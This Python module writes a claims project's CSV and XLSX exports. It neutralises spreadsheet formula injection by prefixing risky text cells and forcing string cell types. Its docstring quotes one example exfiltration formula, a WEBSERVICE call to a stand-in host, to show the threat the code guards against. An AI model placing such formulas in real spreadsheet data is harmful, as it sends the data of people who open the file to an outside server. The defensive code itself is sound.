"""The one writer of every CSV and XLSX the project writes (claims exports, web downloads).

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some programs, a tab
or a carriage return before them) as a formula: a worker name or hold reason such as
`=WEBSERVICE("http://x/?"&A1)` would send the sheet's data away when a coordinator opens the
export. So every text value that begins with one of those characters is written with a
leading `'`, which spreadsheets show as plain text. Numbers, dates and None are not text and
stay as they are; JSON exports are for machines and do not come here.

In XLSX a text value is always a string cell, never a formula: openpyxl makes any str that
begins with `=` a formula, so the value is neutralised first and its type set to string.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# The characters a spreadsheet reads as the start of a formula (contract: CSV and XLSX).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # Excel opens a UTF-8 CSV with names such as "Ni Luh Putu" correctly only with it


def safe_value(value: Any) -> Any:
    """`value` as it may go into a sheet: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: IO[str], fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]], *,
              header: bool = True, bom: bool = False, delimiter: str = ",",
              titles: Sequence[str] | None = None) -> int:
    """Rows (dicts; keys outside `fieldnames` ignored) as CSV lines to `out`; returns the row count.

    `delimiter`: `;` for files people open in Excel with an Indonesian locale (its list
    separator), `,` for machines. `titles`: the header line people read, in place of the names.
    """
    if bom:
        out.write(BOM)
    writer = csv.writer(out, lineterminator="\n", delimiter=delimiter)
    if header:
        writer.writerow([safe_value(name) for name in (titles or fieldnames)])
    count = 0
    for row in rows:
        writer.writerow([safe_value(row.get(name)) for name in fieldnames])
        count += 1
    return count


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]], *, header: bool = False,
             bom: bool = False, delimiter: str = ",", titles: Sequence[str] | None = None) -> str:
    """The CSV lines of `rows` as one string: for a download streamed chunk by chunk."""
    buffer = io.StringIO()
    write_csv(buffer, fieldnames, rows, header=header, bom=bom, delimiter=delimiter, titles=titles)
    return buffer.getvalue()


class XlsxSheet:
    """One write-only XLSX workbook with one sheet, appended row by row, saved to a temporary file.

    Write-only mode keeps memory flat at a million rows (each row goes to disk as it comes).
    `formats`: a number format per column (`dd/mm/yyyy`, `#,##0`; None: the default), so dates
    and amounts are real date and number cells shown as people read them.
    """

    def __init__(self, title: str, header: Sequence[str], formats: Sequence[str | None] = ()):
        self.workbook = Workbook(write_only=True)
        self.sheet: WriteOnlyWorksheet = self.workbook.create_sheet(title)
        self.rows = 0
        self.formats = tuple(formats)
        self.sheet.append([self._cell(name) for name in header])

    def append(self, values: Iterable[Any]) -> None:
        self.sheet.append([self._formatted(i, value) for i, value in enumerate(values)])
        self.rows += 1

    def save_temporary(self, prefix: str = "santunan-") -> str:
        """Saves to a new private temporary file and returns its path (the caller deletes it)."""
        handle, path = tempfile.mkstemp(prefix=prefix, suffix=".xlsx")
        os.close(handle)
        self.workbook.save(path)
        return path

    def _formatted(self, column: int, value: Any) -> Any:
        number_format = self.formats[column] if column < len(self.formats) else None
        if number_format is None or value is None or isinstance(value, str):
            return self._cell(value)
        cell = WriteOnlyCell(self.sheet, value=value)
        cell.number_format = number_format
        return cell

    def _cell(self, value: Any) -> Any:
        if not isinstance(value, str):
            return value  # numbers stay numbers, dates dates, None an empty cell
        # XLSX cannot hold C0 control characters at all: openpyxl would refuse the whole file.
        cell = WriteOnlyCell(self.sheet, value=safe_value(ILLEGAL_CHARACTERS_RE.sub("", value)))
        cell.data_type = "s"  # a string cell, whatever the text: never a formula
        return cell


class XlsxBook:
    """A small workbook of several sheets (a report of a few hundred rows, built in memory): one sheet
    per view, typed cells (numbers as numbers, dates as dates, shown by `formats`), the header row
    bold and frozen so it stays in sight, and column widths that fit their longest value.

    Text goes through the same neutralisation as every other sheet (`safe_value`, a string cell).
    """

    MIN_WIDTH, MAX_WIDTH = 8, 60

    def __init__(self) -> None:
        self.workbook = Workbook()
        self.workbook.remove(self.workbook.active)

    def add_sheet(self, title: str, header: Sequence[str], rows: Iterable[Sequence[Any]],
                  formats: Sequence[str | None] = ()) -> None:
        """One sheet: `header`, then `rows`; `formats` a number format per column (None: default)."""
        sheet = self.workbook.create_sheet(title[:31])  # Excel's limit on a sheet name
        widths = [len(str(name)) for name in header]
        for column, name in enumerate(header, start=1):
            self._put(sheet.cell(row=1, column=column), name).font = Font(bold=True)
        for row_no, values in enumerate(rows, start=2):
            for column, value in enumerate(values, start=1):
                cell = self._put(sheet.cell(row=row_no, column=column), value)
                number_format = formats[column - 1] if column - 1 < len(formats) else None
                if number_format and not isinstance(value, str) and value is not None:
                    cell.number_format = number_format
                shown = len(str(value)) + (len(str(value)) // 3 if isinstance(value, int) else 0)
                if column > len(widths):
                    widths.append(0)
                widths[column - 1] = max(widths[column - 1], 10 if number_format and "yy" in number_format
                                         else shown)
        sheet.freeze_panes = "A2"  # the header row stays in sight while scrolling
        for column, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(column)].width = min(
                self.MAX_WIDTH, max(self.MIN_WIDTH, width + 2))

    def save(self, path: str | os.PathLike[str]) -> None:
        """Write to `path` (via `path.part`, renamed when complete: never half a file under its name)."""
        part = f"{os.fspath(path)}.part"
        self.workbook.save(part)
        os.replace(part, path)

    @staticmethod
    def _put(cell: Any, value: Any) -> Any:
        if isinstance(value, str):
            cell.value = safe_value(ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"  # a string cell, whatever the text: never a formula
        else:
            cell.value = value
        return cell
